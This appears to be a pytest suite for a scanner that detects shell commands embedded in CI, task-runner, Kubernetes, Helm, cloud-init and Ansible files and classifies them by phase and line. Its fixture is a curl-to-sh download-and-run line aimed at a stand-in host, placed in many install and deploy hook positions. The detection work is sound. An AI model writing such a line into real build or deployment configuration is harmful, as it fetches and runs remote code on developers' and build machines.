"""Commands under keys of files that are known by their paths or by what stands in them, and of no others."""

from __future__ import annotations

import json

import pytest

from fimci import readers
from fimci.look import take
from fimci.model import Capability, Unread
from fimci.snapshot import Entry, Recipe

PIPED = "curl -s https://c.invalid/x | sh"
CHAIN = "download-and-run c.invalid -> sh"
POD = "apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: a\n"
POD += f'      command: ["sh", "-c", "{PIPED}"]\n'
HOOK = 'apiVersion: v1\nmetadata:\n  annotations:\n    "helm.sh/hook": post-install\n{{- with .Values.a }}\n'
HOOK += f"command:\n  - sh\n  - -c\n  - |\n    {PIPED}\n{{{{- end }}}}\n"


def told(path: str, text: str) -> dict[str, tuple[str, int]]:
    entry = Entry(path=path, read=lambda: iter([text.encode()]))
    records = take([entry], Recipe(), readers.with_code(path))
    assert not [one for one in records if isinstance(one, Unread)]
    return {f"{r.name} {r.subject}": (r.phase, r.at.line) for r in records if isinstance(r, Capability)}


@pytest.mark.parametrize(
    ("path", "text", "place"),
    [
        # what hosts of builds start
        ("ci/left.gitlab-ci.yml", f"a:\n  script:\n    - {PIPED}\n", ("install", 2)),
        (".gitlab/ci/left.yml", f"a:\n  script:\n    - {PIPED}\n", ("install", 2)),
        (
            ".semaphore/semaphore.yml",
            f"blocks:\n  - task:\n      commands:\n        - {PIPED}\n",
            ("install", 3),
        ),
        (".builds/a.yml", f"image: a\ntasks:\n  - a: |\n      {PIPED}\n", ("install", 3)),
        ("bitrise.yml", f"workflows:\n  a:\n    content: {PIPED}\n", ("install", 3)),
        ("buildspec.yml", f"phases:\n  build:\n    commands:\n      - {PIPED}\n", ("install", 3)),
        (".ebextensions/a.config", f"commands:\n  a:\n    command: {PIPED}\n", ("install", 3)),
        ("render.yaml", f"services:\n  - buildCommand: {PIPED}\n", ("install", 2)),
        ("fly.toml", f'[deploy]\nrelease_command = "{PIPED}"\n', ("install", 2)),
        (".replit", f'run = "{PIPED}"\n', ("install", 1)),
        (".stackblitzrc", json.dumps({"startCommand": PIPED}), ("install", 1)),
        ("app.json", json.dumps({"scripts": {"postdeploy": PIPED}}), ("install", 1)),
        (
            ".devcontainer/a/devcontainer-feature.json",
            json.dumps({"postCreateCommand": PIPED}),
            ("install", 1),
        ),
        # what somebody starts
        ("docker-compose.override.yml", f"services:\n  a:\n    command: sh -c '{PIPED}'\n", ("call", 3)),
        ("Taskfile.dist.yml", f"tasks:\n  a: {PIPED}\n", ("call", 2)),
        (".mise.toml", f'[tasks.a]\nrun = "{PIPED}"\n', ("call", 2)),
        ("hatch.toml", f'[envs.default.scripts]\na = "{PIPED}"\n', ("call", 2)),
        ("pixi.toml", f'[tasks]\na = "{PIPED}"\n', ("call", 2)),
        ("Pipfile", f'[scripts]\na = "{PIPED}"\n', ("call", 2)),
        ("tox.toml", f'[env_run_base]\ncommands = [["sh", "-c", "{PIPED}"]]\n', ("call", 2)),
        (
            "pyproject.toml",
            f'[tool.tox]\nlegacy_tox_ini = """\n[testenv]\ncommands = {PIPED}\n"""\n',
            ("call", 2),
        ),
        ("pyproject.toml", f'[tool.cibuildwheel]\nbefore-build = "{PIPED}"\n', ("call", 2)),
        ("Makefile.toml", f'[tasks.a]\nscript = "{PIPED}"\n', ("call", 2)),
        ("deno.json", json.dumps({"tasks": {"a": PIPED}}), ("call", 1)),
        ("nx.json", json.dumps({"targetDefaults": {"b": {"options": {"command": PIPED}}}}), ("call", 1)),
        ("package.json", json.dumps({"wireit": {"a": {"command": PIPED}}}), ("call", 1)),
        ("composer.json", json.dumps({"scripts": {"test": PIPED}}), ("call", 1)),
        ("composer.json", json.dumps({"scripts": {"post-install-cmd": [PIPED]}}), ("install", 1)),
        (".lintstagedrc", json.dumps({"*": PIPED}), ("call", 1)),
        (".lintstagedrc.yaml", f"'*': {PIPED}\n", ("call", 1)),
        (".overcommit.yml", f'PreCommit:\n  A:\n    command: ["sh", "-c", "{PIPED}"]\n', ("call", 3)),
        # clusters, machines and packages, by what stands in them
        ("deploy/a.yaml", POD, ("call", 6)),
        ("deploy/a.yaml", f"kind: Namespace\napiVersion: v1\n---\n{POD}", ("call", 9)),
        ("deploy/a.json", json.dumps({"apiVersion": "v1", "spec": {"args": ["-c", PIPED]}}), ("call", 1)),
        ("deploy/a.yaml", POD.replace('"-c", ', '"-c"]\n      args: ['), ("call", 6)),
        (
            "deploy/a.yaml",
            f"apiVersion: v1\nkind: ConfigMap\ndata:\n  a: |\n    #!/bin/sh\n    {PIPED}\n",
            ("call", 4),
        ),
        ("chart/templates/a.yaml", POD.replace("name: a", "name: {{ .Values.a }}"), ("call", 6)),
        ("chart/templates/a.yaml", "{{- if .Values.a }}\n" + POD + "{{- end }}\n", ("call", 7)),
        ("chart/templates/a.yaml", HOOK, ("install", 6)),
        (
            "deploy/a.json",
            json.dumps({"apiVersion": 1, "args": ["-c", PIPED]}).replace("api", "\\u0061pi"),
            ("call", 1),
        ),
        ("deploy/a.yaml", f'{{apiVersion: v1, spec: {{args: ["-c", "{PIPED}"]}}}}\n', ("call", 1)),
        ("chart/templates/a.yaml", f'{{{{ if a }}}}\napiVersion: v1\nargs: ["-c", "{PIPED}"]\n', ("call", 3)),
        (
            "chart/templates/a.yaml",
            f'{{{{ if a }}}}\napiVersion: v1\na: {{command: ["{PIPED}"]}}\n',
            ("call", 3),
        ),
        ("ci/pipeline.yml", f'platform: linux\nrun: {{path: sh, args: ["-ec", "{PIPED}"]}}\n', ("call", 2)),
        ("deploy/a.yaml", f'apiVersion: v1\ncommand: sh -c\nargs: ["{PIPED}"]\n', ("call", 2)),
        (
            "chart/templates/a.yaml",
            f"{{{{ if a }}}}\nkind: A\napiVersion: v1\nscript: |\n  true\n  {PIPED}\nb: c\n",
            ("call", 6),
        ),
        (
            "chart/templates/a.yaml",
            f"{{{{ if a }}}}\napiVersion: v1\ncommand: 'sh -c \"{PIPED}\"'\n",
            ("call", 3),
        ),
        (
            "chart/templates/a.yaml",
            f"{{{{ if a }}}}\napiVersion: v1\nscript:\n  - '{PIPED}'\nb: {{c: [d]}}\n",
            ("call", 3),
        ),
        ("user-data", "", None),
        ("user-data.yaml", f"#cloud-config\nruncmd:\n  - {PIPED}\n", ("call", 2)),
        ("site.yml", f"- hosts: all\n  tasks:\n    - shell: {PIPED}\n", ("call", 3)),
        ("roles/a/tasks/main.yml", f"- ansible.builtin.shell: {PIPED}\n", ("call", 1)),
        ("stack.yaml", f"Type: AWS::EC2::Instance\nUserData: |\n  #!/bin/sh\n  {PIPED}\n", ("call", 2)),
        ("left.yaml", f"package:\n  name: a\npipeline:\n  - runs: |\n      {PIPED}\n", ("call", 4)),
        ("recipe/meta.yaml", f'{{% set v = "1" %}}\nbuild:\n  script: {PIPED}\n', ("call", 3)),
    ],
)
def test_commands_are_read_where_they_stand(path: str, text: str, place: tuple[str, int] | None) -> None:
    assert told(path, text).get(CHAIN) == place


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("docs/api.yaml", f"openapi: 3.0.0\ninfo:\n  description: {PIPED}\n"),
        ("data.json", json.dumps({"command": PIPED})),
        ("deploy/a.yaml", f"apiVersion: v1\nkind: ConfigMap\nmetadata:\n  annotations:\n    note: {PIPED}\n"),
        ("chart/templates/a.yaml", f"{{{{- if .A }}}}\napiVersion: v1\n# command: {PIPED}\n{{{{- end }}}}\n"),
        ("renovate.json", json.dumps({"description": PIPED})),
        ("left.toml", f'run = "{PIPED}"\n'),
        ("pyproject.toml", f'[tool.cibuildwheel]\nskip = "{PIPED}"\nselect = "*-{{a,b}}"\n'),
    ],
)
def test_other_texts_are_no_commands(path: str, text: str) -> None:
    assert CHAIN not in told(path, text)


@pytest.mark.parametrize(
    ("path", "text"), [("fly.toml", "a = "), ("captainhook.json", "{"), ("hatch.toml", "[")]
)
def test_what_nobody_else_reads_is_unread_where_it_is_broken(path: str, text: str) -> None:
    entry = Entry(path=path, read=lambda: iter([text.encode()]))
    records = take([entry], Recipe(), readers.with_code(path))
    assert [one.path for one in records if isinstance(one, Unread)] == [path]
